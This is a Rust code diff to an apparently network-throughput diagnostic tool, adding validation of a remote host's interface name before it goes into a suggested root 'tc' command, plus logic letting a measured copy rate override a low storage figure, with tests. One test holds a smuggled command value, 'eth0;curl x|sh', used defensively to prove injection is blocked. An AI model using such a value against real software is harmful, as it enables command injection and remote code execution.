@@ -339,7 +339,7 @@ fn audit_qdisc(host: &str, h: &HostSettings, out: &mut Vec<Finding>) {
                 wanted: "fq (pacing for many streams at once)".into(),
                 // default_qdisc only reaches interfaces made after it is set:
                 // the interface in use needs its own `tc` line now.
-                fix: match &h.interface {
+                fix: match interface_word(h) {
                     Some(i) => format!("tc qdisc replace dev {i} root fq"),
                     None => "sysctl -w net.core.default_qdisc=fq, then for each interface in use: tc qdisc replace dev IF root fq".into(),
                 },
@@ -349,9 +349,21 @@ fn audit_qdisc(host: &str, h: &HostSettings, out: &mut Vec<Finding>) {
     }
 }
 
+/// The interface's name as it may stand in a command to paste: the remote
+/// host's settings come from the server, and a name that is more than a
+/// Linux interface name (15 bytes of letters, digits and `-_.@`) would be
+/// a command of the server's making in a root shell.
+fn interface_word(h: &HostSettings) -> Option<&str> {
+    h.interface.as_deref().filter(|i| {
+        (1..=15).contains(&i.len())
+            && i.bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b"-_.@".contains(&b))
+    })
+}
+
 /// The interface's MTU, the CPU frequency governor and NUMA.
 fn audit_nic_and_cpu(host: &str, h: &HostSettings, bdp: u64, out: &mut Vec<Finding>) {
-    if let (Some(mtu), Some(i)) = (h.mtu, &h.interface) {
+    if let (Some(mtu), Some(i)) = (h.mtu, interface_word(h)) {
         if mtu < 9000 && i != "lo" && bdp > 4 << 20 {
             out.push(Finding {
                 host: host.into(),
@@ -1046,6 +1058,44 @@ fn storage_stages(j: &mut Judgement, m: &Measured, sender: &HostSettings, receiv
     }
 }
 
+/// How far a real copy must outrun a storage stage's figure before that
+/// figure is taken as disproven (storage that varies run to run, such as a
+/// virtual disk, reads 2-3x apart; a quarter above is past any rounding).
+const COPY_OUTRAN: f64 = 1.25;
+
+/// A copy that moved more than the storage stage the verdict named proves
+/// that stage carries at least the copy's rate: its figure apart was low
+/// this time. The stage takes the copy's rate and the verdict is drawn
+/// again; a stage that is not storage (the path, a CPU) keeps its figure.
+fn copy_outran_a_storage_stage(
+    j: &mut Judgement,
+    c: &CopyMeasured,
+    v: &Verdict,
+    fix: impl Fn(Stage) -> String,
+) {
+    if !matches!(v.stage, Stage::DestStorage | Stage::SourceStorage) {
+        return;
+    }
+    let Some(stage) = j.stages.iter_mut().find(|s| s.name == v.stage) else {
+        return;
+    };
+    stage.detail = format!(
+        "at least {}: the short copy moved that much, above the {} measured apart ({})",
+        format_rate(c.bits_per_second),
+        format_rate(stage.ceiling_bps),
+        stage.detail
+    );
+    stage.ceiling_bps = c.bits_per_second;
+    stage.limiting = false;
+    j.verdict = verdict(&j.stages, fix);
+    j.notes.push(format!(
+        "the short copy moved {}, above the {} measured apart for {}: that figure was low this time (storage that varies from run to run, or a cache), so the copy's rate stands for it",
+        format_rate(c.bits_per_second),
+        format_rate(v.ceiling_bps),
+        v.stage.name(),
+    ));
+}
+
 /// The real copy is the check on the stages: far below the verdict's
 /// ceiling, what its own stages show wins over what each stage did apart,
 /// and the verdict follows it.
@@ -1053,6 +1103,10 @@ fn check_with_copy(j: &mut Judgement, c: &CopyMeasured, fix: impl Fn(Stage) -> S
     let Some(v) = j.verdict.clone() else {
         return;
     };
+    if c.bits_per_second > v.ceiling_bps * COPY_OUTRAN {
+        copy_outran_a_storage_stage(j, c, &v, fix);
+        return;
+    }
     if c.bits_per_second >= v.ceiling_bps * 0.5 {
         return;
     }
@@ -1571,6 +1625,21 @@ mod tests {
         assert!(named(&h, 12_500_000).is_none());
         h.tcp_no_metrics_save = None;
         assert!(named(&h, 12_500_000).is_none());
+    }
+
+    #[test]
+    fn a_peers_interface_name_never_makes_a_command_of_its_own() {
+        let h = HostSettings {
+            congestion_control: "bbr".into(),
+            default_qdisc: "fq_codel".into(),
+            interface: Some("eth0;curl x|sh".into()),
+            mtu: Some(1500),
+            ..Default::default()
+        };
+        let f = audit("remote", &h, 10_000_000, 1);
+        let qdisc = f.iter().find(|f| f.setting == "qdisc").unwrap();
+        assert!(qdisc.fix.contains("dev IF root fq"), "{}", qdisc.fix);
+        assert!(f.iter().all(|f| !f.fix.contains("curl")), "{f:?}");
     }
 
     #[test]
@@ -2387,6 +2456,36 @@ mod tests {
         let j = judge(&m);
         assert!(j.notes.is_empty(), "{:?}", j.notes);
         assert_eq!(j.verdict.unwrap().stage, Stage::PathRate);
+    }
+
+    /// Seen on a virtual disk: doctor named the destination's writes at
+    /// 1.31 Gbit/s while its own copy ran at 3.19. The copy proves more.
+    #[test]
+    fn a_copy_that_outruns_the_storage_verdict_takes_that_stages_place() {
+        let mut m = push();
+        m.dest_write = Some((1.31e9 / 8.0, false));
+        m.copy = Some(CopyMeasured {
+            bits_per_second: 3.19e9,
+            source_read_bps: 40e9,
+            dest_write_bps: 4e9,
+            ..Default::default()
+        });
+        let (v, j) = verdict_of(&m);
+        assert!(
+            v.stage != Stage::DestStorage || v.ceiling_bps >= 3.19e9,
+            "{v:?}"
+        );
+        assert_eq!(stage_of(&j, Stage::DestStorage).ceiling_bps, 3.19e9);
+        assert!(
+            j.notes.iter().any(|n| n.contains("above the")),
+            "{:?}",
+            j.notes
+        );
+        // A copy within a quarter of the figure leaves it standing.
+        m.copy.as_mut().unwrap().bits_per_second = 1.5e9;
+        let (v, _) = verdict_of(&m);
+        assert_eq!(v.stage, Stage::DestStorage);
+        assert!((v.ceiling_bps - 1.31e9).abs() < 1e3);
     }
 
     #[test]
